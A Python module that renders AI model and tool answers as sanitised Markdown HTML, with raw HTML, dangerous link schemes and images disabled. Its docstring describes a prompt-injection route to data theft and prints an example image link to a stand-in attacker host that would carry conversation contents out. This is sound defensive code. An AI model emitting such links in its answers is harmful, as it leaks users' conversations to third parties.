"""Answers of models and tools rendered as Markdown, safely.

What a model writes (or a tool returns, or a prompt injected into either) is untrusted. It is turned
into HTML by markdown-it with raw HTML **off** — any ``<script>``, ``<img onerror>`` or ``<iframe>`` in
the text comes out as escaped text — and with CommonMark's link check, which refuses ``javascript:``,
``vbscript:``, ``file:`` and ``data:`` addresses. Images are not rendered at all: an answer could
otherwise make the browser fetch an address that carries the conversation's contents out to a
third party (``![](https://attacker/?q=…)``); the image's address shows as a link instead. Links open
in a new tab without a referrer. Code blocks are highlighted by Pygments, which escapes what it
colours."""

from __future__ import annotations

from typing import Any

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from markupsafe import Markup
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

# Past this size a code block is shown uncoloured (highlighting is linear, but not free).
HIGHLIGHT_MAX = 20_000
# Past this size an answer is shown as plain text (rendering stays well under a frame).
RENDER_MAX = 200_000

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")


def _highlight(code: str, lang: str, _attrs: str) -> str:
    """Coloured spans for a fenced block of a known language; "" lets markdown-it escape it as is."""
    if not lang or len(code) > HIGHLIGHT_MAX:
        return ""
    try:
        lexer = get_lexer_by_name(lang.strip().split()[0][:40])
    except (ClassNotFound, IndexError):
        return ""
    return str(highlight(code, lexer, _FORMATTER))


def _link_open(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    tokens[idx].attrSet("target", "_blank")
    tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
    return self.renderToken(tokens, idx, options, env)


def _parser() -> MarkdownIt:
    options = {"html": False, "linkify": False, "typographer": False, "highlight": _highlight}
    md = MarkdownIt("commonmark", options)
    md.enable(["table", "strikethrough"])
    md.disable("image")
    md.add_render_rule("link_open", _link_open)
    return md


_MD = _parser()


def render_markdown(text: Any) -> Markup:
    """``text`` as sanitised HTML (see the module's docstring); a very long text as escaped text."""
    source = "" if text is None else str(text)
    if len(source) > RENDER_MAX:
        return Markup("<p>") + Markup.escape(source) + Markup("</p>")
    return Markup(_MD.render(source))  # noqa: S704 — markdown-it with raw HTML off escapes the text


def highlight_css() -> str:
    """The colours of highlighted code (static/css/highlight.css is this, written once)."""
    return str(_FORMATTER.get_style_defs(".md pre"))
